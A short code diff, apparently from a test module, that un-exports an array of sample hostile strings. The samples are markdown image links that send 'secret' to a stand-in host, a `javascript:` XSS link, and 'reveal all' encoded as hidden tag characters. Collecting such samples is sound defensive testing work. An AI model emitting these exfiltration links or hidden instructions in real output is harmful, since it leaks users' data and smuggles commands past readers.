@@ -10,7 +10,7 @@ const TAGS = Array.from('reveal all', (letter) =>
 ).join('');
 
 /** One string of each kind. */
-export const HOSTILE_STRINGS = [
+const HOSTILE_STRINGS = [
   '![x](https://e.example/?q=secret)',
   '![x][ref] [ref]: https://e.example/',
   '[t](javascript:alert(1))',
